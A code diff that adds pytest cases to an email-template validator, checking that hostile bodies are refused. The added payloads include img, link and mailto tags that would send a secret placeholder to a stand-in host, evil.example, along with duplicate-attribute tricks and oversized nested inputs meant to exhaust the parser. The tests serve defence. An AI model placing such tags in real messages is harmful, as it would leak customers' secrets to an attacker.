@@ -3,6 +3,7 @@
 import pytest
 from msgspec.structs import replace
 
+from backend.messaging.secrets import SECRET
 from backend.messaging.templates.catalog.loyalty_enrollment import LOYALTY_ENROLLMENT
 from backend.messaging.templates.checks import check_content
 from backend.messaging.templates.facts import CustomerFacts, MerchantFacts
@@ -77,6 +78,14 @@ PAYLOADS = {
     "<p>x": "not_closed",
     "x</p>": "not_open",
     "<p>{{ card.url }}</p>": "link_as_text",
+    "<a href=\"https://evil.example\" href=\"{{ card.url }}\">x</a>": "attribute_not_allowed",
+    "<a href=\"https://evil.example\" href=\"https://good.example\">x</a>": "attribute_not_allowed",
+    "{% if card.code" + " and card.code" * 2000 + " %}x{% endif %}": "nested_too_deeply",
+    "{% if card.code" + " or card.code" * 10 + " %}x{% endif %}": "nested_too_deeply",
+    "<a " * 10_000: "less_than",
+    "<a x=\"" * 5_000: "less_than",
+    "<![" * 10_000: "less_than",
+    "<![if x]>": "less_than",
 }  # fmt: skip
 
 
@@ -89,6 +98,22 @@ def codes(content: TemplateContent) -> list[str]:
 @pytest.mark.parametrize(("payload", "code"), PAYLOADS.items(), ids=[payload[:40] for payload in PAYLOADS])
 def test_a_hostile_body_is_refused_with_the_reason(payload: str, code: str) -> None:
     assert code in codes(replace(GOOD, body=f"{GOOD.body}\n{payload}"))
+
+
+@pytest.mark.parametrize(
+    "placeholder", [SECRET, "&bull;" * 6, "https://cards.example/c/…", "/u/&hellip;", "/c/&#8230;"]
+)
+@pytest.mark.parametrize(
+    "tag",
+    [
+        '<img src="https://evil.example/?{0}" alt="x">',
+        '<img src="https://evil.example/?{0}" src="https://good.example" alt="x">',
+        '<a href="https://evil.example/?{0}">x</a>',
+        '<a href="mailto:x@evil.example?body={0}">x</a>',
+    ],
+)
+def test_what_is_inserted_on_sending_becomes_no_part_of_another_address(tag: str, placeholder: str) -> None:
+    assert codes(replace(GOOD, body=f"{GOOD.body}\n<p>{tag.format(placeholder)}</p>"))
 
 
 @pytest.mark.parametrize("field", ["subject", "preheader"])
